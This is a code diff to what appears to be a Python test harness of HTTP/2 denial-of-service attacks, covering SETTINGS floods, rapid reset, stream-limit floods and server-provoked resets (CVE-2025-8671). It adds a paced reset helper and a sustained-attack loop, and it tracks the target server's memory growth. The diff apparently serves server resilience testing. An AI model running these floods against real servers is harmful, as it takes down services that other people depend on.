@@ -45,6 +45,14 @@ def flood(peer, make, count=1):
     peer.send_while_welcome(built(make), count)
 
 
+def provoke(peer, make):
+    """Has the server reset one stream after the other, never more at once than it allows."""
+    for start in range(1, 40000, 40):
+        peer.send(b"".join(make(n) for n in streams(20, start)))
+        if not peer.wait(lambda: peer.goaway or peer.has_answer(start + 38)) or peer.goaway:
+            return
+
+
 def hold(peer, stream=1, more=b""):
     """Opens a stream that stays open on both sides."""
     peer.send(headers(stream, request("/hold", "POST"), END_HEADERS) + more)
@@ -70,7 +78,6 @@ def rapid_reset_of_answered(peer):
 @attack
 def settings_flood(peer):
     """SETTINGS, each of which has to be acknowledged (CVE-2019-9515)."""
-    peer.acknowledge = False
     flood(peer, lambda: settings((4, 65535)) * 1000, 100)
 
 
@@ -204,79 +211,65 @@ def giant_header_list(peer):
         + frame(CONTINUATION, 0, 1, pad) * 15 + frame(CONTINUATION, END_HEADERS, 1, pad), 1)
 
 
-@attack
-def table_size_updates(peer):
-    """Heads that do nothing but resize the table."""
-    peer.send_while_welcome(headers(1, b"\x20\x3f\xe1\x1f" * 4000 + block(request())), 1)
-
-
 # Streams that the server is made to reset ("MadeYouReset", CVE-2025-8671)
-
-
-@attack
-def reset_by_empty_window_update(peer):
-    """A window that grows by nothing is a stream's error."""
-    flood(peer, lambda: b"".join(
-        headers(n, request("/hold")) + window_update(n, 0) for n in streams(20000)))
 
 
 @attack
 def reset_by_window_overflow(peer):
     """A stream's window that grows beyond what is allowed."""
-    flood(peer, lambda: b"".join(
-        headers(n, request("/hold")) + window_update(n, 0x7fffffff) for n in streams(20000)))
-
-
-@attack
-def reset_by_late_data(peer):
-    """DATA after the end of the request."""
-    flood(peer, lambda: b"".join(
-        headers(n, request("/hold")) + frame(DATA, 0, n, b"late") for n in streams(20000)))
-
-
-@attack
-def reset_by_late_headers(peer):
-    """HEADERS after the end of the request."""
-    flood(peer, lambda: b"".join(
-        headers(n, request("/hold")) * 2 for n in streams(20000)))
-
-
-@attack
-def reset_by_self_dependency(peer):
-    """A stream that depends on itself."""
-    flood(peer, lambda: b"".join(
-        headers(n, request("/hold")) + frame(PRIORITY, 0, n, struct.pack(">LB", n, 1))
-        for n in streams(20000)))
+    provoke(peer, lambda n: headers(n, request("/hold")) + window_update(n, 0x7fffffff))
 
 
 @attack
 def reset_by_long_body(peer):
     """More DATA than content-length says."""
-    flood(peer, lambda: b"".join(
-        headers(n, request("/hold", "POST", [("content-length", "1")]), END_HEADERS)
-        + frame(DATA, 0, n, b"ab") for n in streams(20000)))
+    provoke(peer, lambda n: headers(
+        n, request("/hold", "POST", [("content-length", "1")]), END_HEADERS)
+        + frame(DATA, 0, n, b"ab"))
 
 
 @attack
 def reset_by_bad_trailers(peer):
     """Trailers with a pseudo-field."""
-    flood(peer, lambda: b"".join(
-        headers(n, request("/hold", "POST"), END_HEADERS)
-        + headers(n, [(":path", "/")]) for n in streams(20000)))
+    provoke(peer, lambda n: headers(n, request("/hold", "POST"), END_HEADERS)
+            + headers(n, [(":path", "/")]))
 
 
 @attack
 def reset_by_bad_field(peer):
     """Heads that no gateway may pass on."""
-    flood(peer, lambda: b"".join(
-        headers(n, request(more=[("x-a", "b\r\nc: d")])) for n in streams(20000)))
+    provoke(peer, lambda n: headers(n, request(more=[("x-a", "b\r\nc: d")])))
 
 
 @attack
 def reset_by_connection_field(peer):
     """The same with a field that is none of HTTP/2."""
-    flood(peer, lambda: b"".join(
-        headers(n, request(more=[("connection", "close")])) for n in streams(20000)))
+    provoke(peer, lambda n: headers(n, request(more=[("connection", "close")])))
+
+
+@attack
+def reset_by_empty_window_update(peer):
+    """A window that grows by nothing."""
+    provoke(peer, lambda n: headers(n, request("/hold")) + window_update(n, 0))
+
+
+@attack
+def reset_by_late_data(peer):
+    """DATA after the end of the request."""
+    provoke(peer, lambda n: headers(n, request("/hold")) + frame(DATA, 0, n, b"late"))
+
+
+@attack
+def reset_by_late_headers(peer):
+    """HEADERS after the end of the request."""
+    provoke(peer, lambda n: headers(n, request("/hold")) * 2)
+
+
+@attack
+def reset_by_self_dependency(peer):
+    """A stream that depends on itself."""
+    hold(peer)
+    flood(peer, lambda: frame(PRIORITY, 0, 1, struct.pack(">LB", 1, 1)) * 1000, 100)
 
 
 # Streams that stay
@@ -285,15 +278,16 @@ def reset_by_connection_field(peer):
 @attack
 def streams_over_the_limit(peer):
     """More streams at once than allowed, from a client that has read the limit."""
-    peer.wait(lambda: len(peer.of(SETTINGS)) >= 2)
     flood(peer, lambda: b"".join(headers(n, request("/hold")) for n in streams(20000)))
 
 
 @attack
 def streams_over_the_unread_limit(peer):
     """The same from a client that never acknowledges the limit."""
-    peer.acknowledge = False
     flood(peer, lambda: b"".join(headers(n, request("/hold")) for n in streams(20000)))
+
+
+streams_over_the_unread_limit.is_hasty = True
 
 
 @attack
@@ -316,14 +310,9 @@ def unread_answers(peer):
     peer.send(
         settings((4, 0x7fffffff)) + window_update(0, 0x7fff0000 - 65535)
         + b"".join(headers(n, request("/big")) for n in streams(100)))
-    # Nothing is read until the server has given up: it closes with unread data and so resets.
-    end = time.monotonic() + PATIENCE
-    while time.monotonic() < end:
-        try:
-            peer.socket.sendall(ping())
-        except OSError:
-            break
-        time.sleep(0.05)
+    # So long is nothing read; what was sent until then is looked at after that.
+    time.sleep(3)
+    peer.wait(lambda: all(peer.has_answer(n) for n in streams(100)))
 
 
 @attack
@@ -331,6 +320,9 @@ def idle_bodies(peer):
     """Requests whose bodies never come."""
     peer.send(b"".join(headers(n, request("/hold", "POST"), END_HEADERS) for n in streams(100)))
     peer.wait(lambda: all(peer.has_answer(n) for n in streams(100)))
+
+
+zero_window.stays = unread_answers.stays = idle_bodies.stays = True
 
 
 @attack
@@ -369,6 +361,7 @@ def bare_preface(peer):
 
 
 bare_preface.opening = PREFACE
+half_preface.is_hasty = bare_preface.is_hasty = True
 
 
 # Running them
@@ -385,7 +378,7 @@ class Growth(threading.Thread):
 
     def now(self):
         with open(f"/proc/{self.pid}/smaps_rollup") as text:
-            return next(int(line.split()[1]) for line in text if line.startswith("Pss:"))
+            return next(int(line.split()[1]) for line in text if line.startswith("Pss_Anon:"))
 
     def run(self):
         while not self.is_over.wait(0.02):
@@ -397,11 +390,22 @@ class Growth(threading.Thread):
         return max(self.peak, self.now()) - self.before
 
 
-def run_once(name, address, outcomes=None):
+def play(name, address):
+    """Connects, attacks until the server has had enough, and returns what came of it."""
     function = ATTACKS[name]
     peer = Peer(address, getattr(function, "opening", PREFACE + settings()))
+    if hasattr(function, "is_hasty"):
+        peer.acknowledge = False
+    else:
+        # Both sides' settings hold; nothing is sent by itself any more.
+        peer.wait(lambda: len(peer.of(SETTINGS)) >= 2)
     function(peer)
-    closed = peer.wait_for_end()
+    return peer
+
+
+def run_once(name, address, outcomes=None):
+    peer = play(name, address)
+    closed = not hasattr(ATTACKS[name], "stays") and peer.wait_for_end()
     resets = [code_name(struct.unpack(">L", f.payload)[0]) for f in peer.of(RST_STREAM)]
     try:
         statuses = [head[":status"] for heads in peer.heads().values() for head in heads]
@@ -437,11 +441,8 @@ def sustain(name, address, seconds):
     end = time.monotonic() + seconds
     count = 0
     while time.monotonic() < end:
-        function = ATTACKS[name]
         try:
-            peer = Peer(address, getattr(function, "opening", PREFACE + settings()))
-            function(peer)
-            peer.close()
+            play(name, address).close()
         except OSError:
             pass
         count += 1
